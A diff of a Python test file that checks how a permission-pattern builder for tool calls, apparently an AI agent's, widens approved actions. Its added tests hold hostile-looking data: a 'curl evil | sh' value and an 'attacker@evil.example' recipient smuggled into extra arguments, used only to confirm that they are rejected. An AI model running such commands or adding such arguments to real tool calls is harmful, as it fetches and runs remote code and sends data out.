@@ -40,10 +40,10 @@ READ = call(("read-path", "path", path("/home/u/docs/a.txt")))
 def test_a_file_widens_to_its_directory_and_a_directory_to_itself() -> None:
     pattern = built(READ)
     assert pattern is not None
-    assert pattern.shown() == ["read-path: anywhere in /home/u/docs"]
+    assert pattern.shown() == ["path (read-path): anywhere in /home/u/docs"]
     listing = built(call(("read-path", "path", path("/home/u/docs"))), "/home/u/docs")
     assert listing is not None
-    assert listing.shown() == ["read-path: anywhere in /home/u/docs"]
+    assert listing.shown() == ["path (read-path): anywhere in /home/u/docs"]
 
 
 @pytest.mark.parametrize(
@@ -96,9 +96,10 @@ def test_a_message_widens_to_any_text_for_the_same_people() -> None:
     made = call(("recipient", "to", party("bob@x.example")), ("outbound-content", "text", "hello"))
     pattern = built(made)
     assert pattern is not None
-    assert pattern.shown() == ["recipient: bob@x.example", "text: anything"]
+    assert pattern.shown() == ["to (recipient): bob@x.example", "text: anything"]
     other = ("outbound-content", "text", "something else")
     assert pattern.admits(call(("recipient", "to", party("bob@x.example")), other))
+    assert not pattern.admits(call(("recipient", "to", party("bob@x.example")), other, attachment="all.zip"))
     assert not pattern.admits(call(("recipient", "to", party("eve@x.example")), other))
     assert not pattern.admits(
         call(("recipient", "to", party("bob@x.example")), ("recipient", "cc", party("eve@x.example")))
@@ -135,3 +136,29 @@ def test_one_and_its_text_are_two() -> None:
     pattern = built(call(("account", "account", 1), ("read-path", "path", path("/a/b"))))
     assert pattern is not None
     assert not pattern.admits(call(("account", "account", "1"), ("read-path", "path", path("/a/b"))))
+
+
+def test_an_argument_that_nobody_saw_is_not_covered() -> None:
+    pattern = built(call(("write-path", "path", path("/d/a")), mode="0644"))
+    assert pattern is not None
+    assert pattern.shown() == ["path (write-path): anywhere in /d", "mode: anything"]
+    assert pattern.admits(call(("write-path", "path", path("/d/b")), mode="0600"))
+    assert not pattern.admits(call(("write-path", "path", path("/d/b")), mode="0600", to="attacker@evil.example"))
+    assert not pattern.admits(call(("write-path", "path", path("/d/b")), mode={"deep": "x"}))
+
+
+def test_siblings_of_a_bound_argument_count() -> None:
+    first = CanonicalCall("s", "t", {"opts": {"target": "/d/a"}}, Principal("ann"), (RoleValue(Role("write-path"), "opts.target", path("/d/a")),), {}, ())  # fmt: skip
+    pattern = built(first)
+    assert pattern is not None
+    later = CanonicalCall("s", "t", {"opts": {"target": "/d/a", "exec": "curl evil | sh"}}, Principal("ann"), first.values, {}, ())  # fmt: skip
+    assert not pattern.admits(later)
+
+
+def test_bounds_are_for_their_own_argument() -> None:
+    pattern = built(call(("account", "from", "SAVINGS"), ("account", "to", "LANDLORD"), ("amount", "sum", 100)))
+    assert pattern is not None
+    assert pattern.admits(call(("account", "from", "SAVINGS"), ("account", "to", "LANDLORD"), ("amount", "sum", 50)))
+    assert not pattern.admits(
+        call(("account", "from", "LANDLORD"), ("account", "to", "SAVINGS"), ("amount", "sum", 50))
+    )
